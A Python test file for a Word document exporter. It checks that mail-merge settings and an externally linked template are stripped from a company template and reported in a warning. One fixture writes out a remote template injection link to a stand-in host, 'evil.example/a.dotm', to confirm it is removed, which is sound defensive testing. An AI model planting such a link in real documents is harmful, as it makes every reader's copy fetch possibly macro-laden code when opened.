"""The company's settings: what leads to other files stays behind, and that is said."""

import re
from pathlib import Path

import pytest
from tests.exporters.word.company.filled import made
from tests.exporters.word.opened import opened, page_of, para
from tests.exporters.word.templates import entry, rewritten, template, written

from opshandover.errors import OpsHandoverWarning
from opshandover.exporters.word.render import render

NAME = "word/settings.xml"
MERGE = '<w:mailMerge><w:mainDocumentType w:val="formLetters"/></w:mailMerge><w:linkStyles/>'


def merging() -> bytes:
    """A template that was the letter of a mail merge."""
    data = template()
    return rewritten(data, {NAME: re.sub(rb"(<w:settings[^>]*>)", rb"\1" + MERGE.encode(), entry(data, NAME))})


def test_what_stays_behind_is_warned_of(tmp_path: Path) -> None:
    """All of it in one warning, and nothing is said of another template."""
    path = written(tmp_path, merging())
    with pytest.warns(OpsHandoverWarning) as caught:
        file = opened(render(page_of(para("文")), company_file=path))
    render(page_of(para("文")), company_file=written(tmp_path, template(), "plain.docx"))
    (said,) = (str(one.message) for one in caught)
    assert "its source of a mail merge, the update of its styles" in said
    assert "company.docx" in said
    assert b"mailMerge" not in file.parts[NAME]
    assert b"linkStyles" not in file.parts[NAME]


def test_what_leads_to_other_files_goes(tmp_path: Path, plain_template: bytes) -> None:
    """A template of the template would be fetched whenever the document is opened."""
    name = "word/settings.xml"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{kind}" Target="https://evil.example/a.dotm"'
        ' TargetMode="External"/></Relationships>'
    )
    attached = (
        '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships" r:id="rId1"/>'
    )
    settings = re.sub(rb"(<w:settings[^>]*>)", rb"\1" + attached.encode(), entry(plain_template, name))
    with pytest.warns(OpsHandoverWarning):
        file = made(
            tmp_path, rewritten(plain_template, {name: settings, "word/_rels/settings.xml.rels": rels.encode()})
        )
    assert all(b"evil.example" not in part for part in file.parts.values())
